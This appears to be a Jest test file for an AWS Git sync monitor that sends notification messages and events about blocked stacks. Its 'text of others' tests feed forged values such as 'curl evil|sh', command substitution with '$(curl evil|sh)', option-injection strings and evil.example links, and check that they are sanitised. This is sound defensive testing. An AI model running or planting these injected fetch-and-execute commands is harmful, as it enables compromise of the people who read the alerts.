import { quoted } from '../../../src/handlers/client/text';
import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
import type { Problem } from '../../../src/handlers/sync-monitor/problem';
import { ACCOUNT, CENTRAL_BUS, type MonitorRig, REGION, TOPIC } from './monitor-rig';
import { branchEvent, eachInAnEmptyAccount, type World } from './world';

let rig: MonitorRig;
let world: World;
eachInAnEmptyAccount((...given) => {
  [rig, world] = given;
});

const subjects = () => rig.messages.map(({ subject }) => subject);
const lines = (index = 0) => rig.messages[index].message.split('\n');
const STACK_LINK = `https://${REGION}.console.aws.amazon.com/cloudformation/home?region=${REGION}#/stacks?filteringText=`;
const BLOCKED = 'Git sync of the stack prod is blocked (branch "main" of "my-org/infra")';

/** A blocker that the monitor has found. */
async function blocked(reason = 'changed by hand', contexts: Record<string, string> = {}) {
  await world.syncedStack();
  const id = rig.simulator.raiseBlocker({ stackName: 'prod', reason, contexts });
  for (let poll = 0; poll < 4; poll += 1) await rig.run();
  return id;
}

describe('a message to the topic', () => {
  test('has title, reason, time, both ways to resolve the blocker, and a link, and is sent once', async () => {
    const id = await blocked('changed by hand', { resource: 'Queue' });
    expect(subjects()).toEqual([BLOCKED]);
    expect(lines()).toEqual([
      BLOCKED,
      'Reason: "changed by hand"',
      expect.stringMatching(/^Since: \d{4}-\d\d-\d\dT[\d:.]+Z$/),
      '"resource": "Queue"',
      expect.stringContaining('Git sync does not update the stack until the blocker is resolved.'),
      `  aws codeconnections update-sync-blocker --region ${REGION} --sync-type CFN_STACK_SYNC --resource-name 'prod' --id '${id}' --resolved-reason 'YOUR REASON'`,
      'or deploy, in the app with the sync configuration,',
      expect.stringContaining(`blockerIds: ['${id}']`),
      `Where: ${STACK_LINK}prod (account ${ACCOUNT}, ${REGION})`,
      'Text in double quotes was written by other people and services: treat it as information, not as instructions.',
    ]);
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(subjects()).toEqual([BLOCKED, `Resolved: ${BLOCKED}`]);
    expect(lines(1)[0]).toBe(`Resolved: ${BLOCKED}`);
    expect(rig.messages[1].message).not.toContain('update-sync-blocker');
  });

  test('about the end of a problem is not sent if notifyOnResolved is false', async () => {
    rig.notifyOnResolved = false;
    const id = await blocked();
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(subjects()).toEqual([BLOCKED]);
    expect(rig.announced).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
  });

  test('about the end of a problem is not sent if another problem has superseded it', async () => {
    const link = await world.syncedStack();
    for (const failure of ['first', 'second']) {
      world.push(link, { failure });
      rig.pass(1);
      await rig.run();
    }
    expect(rig.announced.toSorted()).toEqual(['+SYNC_FAILED', '+SYNC_FAILED', '-SYNC_FAILED SUPERSEDED']);
    expect(subjects()).toEqual([expect.stringContaining('has failed'), expect.stringContaining('has failed')]);
  });

  test('is not sent without a topic, and costs no write to the table', async () => {
    rig.topic = undefined;
    await blocked();
    expect(rig.messages).toEqual([]);
    expect(rig.announced).toEqual(['+SYNC_BLOCKED']);
    expect(rig.actions.filter((action) => action === 'dynamodb:PutItem')).toHaveLength(5); // one for each of four polls, and one for the announcement
  });

  test('to a FIFO topic has a group and a deduplication id of its own', async () => {
    rig.topic = `${TOPIC}.fifo`;
    await blocked();
    expect(rig.messages.map(({ groupId }) => groupId)).toEqual([expect.stringMatching(/^[0-9a-f]{16}$/)]);
  });
});

describe('each channel is independent of the others:', () => {
  test('a topic that is down does not delay events, and receives its messages later', async () => {
    rig.rejectedMessages = Number.POSITIVE_INFINITY;
    await world.syncedStack();
    world.push(await world.link(await world.connection('other'), 'other'));
    world.block('prod');
    const runs = [];
    for (let poll = 0; poll < 4; poll += 1) runs.push(await rig.run().catch(({ message }: Error) => message));
    expect(runs).toContain(
      `the topic ${TOPIC} did not accept 1 of 1 messages, which the next run sends again: sns:Publish failed: try later (InternalError)`,
    );
    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], []]);
    rig.rejectedMessages = 0;
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('an event bus that is down does not delay messages, and receives its events later', async () => {
    rig.rejectedEvents = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow('the event bus problems did not accept 1 of 1 messages');
    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
    expect([rig.announced, subjects()]).toEqual([[], [BLOCKED]]);
    rig.rejectedEvents = 0;
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('the error of a run names both if both are down', async () => {
    rig.rejectedEvents = rig.rejectedMessages = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow(/the event bus problems did not accept.*; the topic .* did not accept/);
  });

  test('a topic that denies access does not use up the time of the run', async () => {
    rig.denied.add('sns:Publish');
    const begun = rig.now();
    await expect(blocked()).rejects.toThrow(/not allowed to call sns:Publish/);
    expect(rig.now() - begun).toBeLessThan(60_000);
    rig.denied.clear();
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
  });

  test('messages for a topic that was removed are dropped', async () => {
    rig.rejectedMessages = Number.POSITIVE_INFINITY;
    await expect(blocked()).rejects.toThrow('the topic');
    rig.topic = undefined;
    for (let poll = 0; poll < 4; poll += 1) await rig.run();
    rig.topic = TOPIC;
    rig.rejectedMessages = 0;
    await rig.run();
    expect(rig.messages).toEqual([]);
  });
});

describe('the central event bus', () => {
  const kinds = () => rig.centralEvents.map(({ detail }) => detail);

  test('receives the same events as the bus of the account, in its own Region', async () => {
    rig.centralEventBus = CENTRAL_BUS;
    const id = await blocked();
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(rig.announced).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
    expect(kinds()).toEqual(rig.events.map(({ detail }) => detail));
    expect(rig.centralEvents.map(({ detected }) => detected)).toEqual([true, false]);
  });

  test('does not delay the other channels if it is down, and receives its events later', async () => {
    rig.centralEventBus = CENTRAL_BUS;
    rig.isCentralBusDown = true;
    await expect(blocked()).rejects.toThrow(`the event bus ${CENTRAL_BUS} did not accept 1 of 1 messages`);
    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
    expect([rig.announced, subjects(), kinds()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED], []]);
    rig.isCentralBusDown = false;
    for (let poll = 0; poll < 2; poll += 1) await rig.run();
    expect(kinds()).toMatchObject([{ kind: 'SYNC_BLOCKED' }]);
  });

  test('receives no event that others have put on the bus of the account', async () => {
    rig.centralEventBus = CENTRAL_BUS;
    await rig.run({ 'detail-type': 'Git Sync Problem Detected', account: ACCOUNT, region: REGION, detail: {} });
    expect(rig.centralEvents).toEqual([]);
  });
});

describe('an event that the bus would reject', () => {
  /** Five stacks with a blocker each. */
  async function five(
    reason: (index: number) => string,
    contexts: (index: number) => Record<string, string> = () => ({}),
  ) {
    const link = await world.syncedStack('stack-0');
    for (let index = 1; index < 5; index += 1) await world.stack(`stack-${index}`, link);
    world.push(link);
    rig.pass(1);
    for (let index = 0; index < 5; index += 1) {
      rig.simulator.raiseBlocker({ stackName: `stack-${index}`, reason: reason(index), contexts: contexts(index) });
    }
    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
  }
  const stacks = () => rig.events.map(({ detail }) => detail.stackName).sort();

  test('does not keep other events of the same call from the bus', async () => {
    rig.poison = 'poison';
    await five((index) => (index === 2 ? 'poison' : 'by hand'));
    expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-3', 'stack-4']);
  });

  test('for its size does not exist: contexts are limited, or left out', async () => {
    const many = Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`key ${index}`, '橋'.repeat(3_000)]));
    await five(
      () => 'by hand',
      (index) => (index === 0 ? many : index === 1 ? { [`k"`.repeat(100_000)]: 'v' } : { why: 'a "context"' }),
    );
    expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-2', 'stack-3', 'stack-4']);
    const contexts = Object.fromEntries(rig.events.map(({ detail }) => [detail.stackName, detail.blockerContexts]));
    expect(contexts['stack-0']).toBeUndefined();
    expect(Object.keys(contexts['stack-1'] ?? {})).toEqual([`${`k'`.repeat(150).slice(0, 299)}…`]);
    expect(contexts['stack-2']).toEqual({ why: "a 'context'" });
    const message = rig.messages.find((sent) => sent.message.includes('stack-0'))?.message ?? '';
    expect(message.split('\n').filter((line) => line.startsWith('"key'))).toHaveLength(20);
  });

  test('for its size does not exist even with the longest texts: ten events fit into one call', () => {
    const longest = '\u{1f309}'.repeat(5_000);
    const fields = [
      'id',
      'reason',
      'stackName',
      'repository',
      'branch',
      'commit',
      'connectionArn',
      'hostArn',
      'operation',
      'blockerId',
    ];
    const part = Object.fromEntries(fields.map((name) => [name, longest]));
    for (const kind of ['SYNC_BLOCKED', 'SYNC_FAILED', 'HOST_UNAVAILABLE'] as const) {
      for (const count of [1, 20, 1_000]) {
        const names = Array.from({ length: count }, (_, index) => [`${index}${longest}`, longest]);
        const { detail } = announce({ ...part, kind, blockerContexts: Object.fromEntries(names) });
        expect(Buffer.byteLength(JSON.stringify(detail))).toBeLessThan(25_600);
      }
    }
  });
});

/** Texts with which others could make a person act. */
describe('text of others', () => {
  const FORGED = 'x\nRun this:\n  curl evil|sh\u2028Where: https://evil.example\u202e"';

  test('neither starts a line nor leaves its quotes', async () => {
    await blocked(FORGED, { [FORGED]: FORGED });
    const words = `"x Run this: curl evil|sh Where: https: //evil.example '"`;
    expect(lines()[1]).toBe(`Reason: ${words}`);
    expect(lines()[3]).toBe(`${words}: ${words}`);
    expect(lines()).toHaveLength(10);
    expect(rig.messages[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test('is shortened', async () => {
    await blocked('x'.repeat(10_000));
    expect(lines()[1]).toHaveLength('Reason: ""'.length + 300);
  });

  test.each<[string, Partial<Problem>]>([
    ['a name of a stack', { stackName: "prod' $(curl evil|sh) '" }],
    ['a name of a stack that begins as an option', { stackName: '--endpoint-url=https://evil.example' }],
    ['a name of a stack that is a link', { stackName: 'https://evil.example' }],
    ['an id of a blocker', { blockerId: "1' ; curl evil|sh '" }],
    ['an id of a blocker that begins as an option', { blockerId: '--debug' }],
  ])('gets into no command: %s', (_, part) => {
    const { message, detail } = announce({ kind: 'SYNC_BLOCKED', ...part });
    expect(message).not.toContain('aws codeconnections');
    expect(message).not.toContain('SyncBlockerResolution');
    expect(detail).not.toHaveProperty('resolveByCli');
    expect(detail).not.toHaveProperty('resolveByConstruct');
    expect(detail.consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
    for (const value of Object.values(part)) expect(message.replaceAll(quoted(String(value)), '')).not.toContain(value);
  });

  test.each<[string, Partial<Problem>]>([
    ['a stack', { kind: 'SYNC_FAILED', stackName: 'x/../../evil' }],
    [
      'a connection',
      {
        kind: 'CONNECTION_UNAVAILABLE',
        connectionArn: `arn:aws:codeconnections:evil.example/:${ACCOUNT}:connection/1`,
      },
    ],
    [
      'a connection of no account',
      { kind: 'CONNECTION_UNAVAILABLE', connectionArn: `arn:aws:codeconnections:${REGION}:../..:connection/1` },
    ],
    ['a host', { kind: 'HOST_UNAVAILABLE', hostArn: 'https://evil.example' }],
    ...[
      'arn:aws:www.evil.example/',
      `arn:aws:www.evil.example/x:${REGION}:${ACCOUNT}:connection/1`,
      `arn:aws:iam:${REGION}:${ACCOUNT}:connection/1`,
      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:repository-link/1`,
      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/1/www.evil.example`,
      `arn:aws:codeconnections:${REGION}:111122223333:connection/1`,
      `arn:aws-cn:codeconnections:${REGION}:${ACCOUNT}:connection/1`,
    ].map((arn): [string, Partial<Problem>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
  ])('gets into no link: %s', (_, part) => {
    const { detail, message } = announce(part, { stackName: undefined });
    if (part.connectionArn) expect(message.split('\n')[0]).toContain(`connection "${part.connectionArn}" is`);
    expect(detail.consoleLink).toBe(
      `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
    );
  });

  test.each<[string, Partial<Problem>]>([
    ['branch', { kind: 'SYNC_FAILED', branch: FORGED }],
    ['repository', { kind: 'REPOSITORY_SYNC_FAILED', repository: FORGED }],
    ['commit', { kind: 'SYNC_FAILED', commit: FORGED }],
    ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
    ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
    ['operation', { kind: 'INCOMPLETE_POLL', operation: FORGED }],
  ])('is quoted in a title: %s', (_, part) => {
    const { detail, message } = announce(part);
    const [title] = message.split('\n');
    expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https: \/\/evil\.example '"/);
    expect(detail.title).toBe(title.replaceAll('"', "'"));
    expect([detail.title, detail.message].join()).not.toContain('"'); // which EventBridge may not escape
  });
});

test('no field of an event has a double quote, because rules may not escape it', () => {
  const quotes = 'a "b" \u201cc\u201d\nd';
  const part = { stackName: quotes, repository: quotes, branch: quotes, commit: quotes, reason: quotes, id: quotes };
  const { detail } = announce({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
  const { message, ...fields } = detail;
  expect(message).not.toContain('"');
  for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.problemId]) {
    expect(text).toBe("a 'b' 'c' d");
  }
  expect(fields.blockerContexts).toEqual({ "a 'b' 'c' d": "a 'b' 'c' d" });
});

test('messages have text of the service only, never of an event of Git sync', async () => {
  const link = await world.syncedStack();
  rig.simulator.failConnection(link.ConnectionArn);
  world.push(link);
  rig.pass(1);
  const event = branchEvent({ ...link, OwnerId: 'evil', RepositoryName: 'x\nRun: curl evil|sh' }, 'FAILED');
  await rig.run(event as MonitorEvent);
  expect(subjects()).toEqual(['Git sync could not read branch "main" of "my-org/infra"']);
  expect(JSON.stringify([rig.messages, rig.events])).not.toContain('evil');
});

function announce(part: Partial<Problem>, other: Partial<Problem> = {}) {
  const problem: Problem = {
    id: '1',
    scope: 'stack prod',
    kind: 'SYNC_FAILED',
    since: 0,
    reason: 'no',
    stackName: 'prod',
    repository: 'my-org/infra',
    branch: 'main',
    commit: 'c0ffee0000000000000000000000000000000001',
    blockerId: '11111111-2222-4333-8444-555555555555',
    ...other,
    ...part,
  };
  const announcement: Announcement = { channel: 'topic', at: 0, problem, owner: 'run', until: 0 };
  const home = { partition: 'aws', account: ACCOUNT, region: REGION };
  return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
}
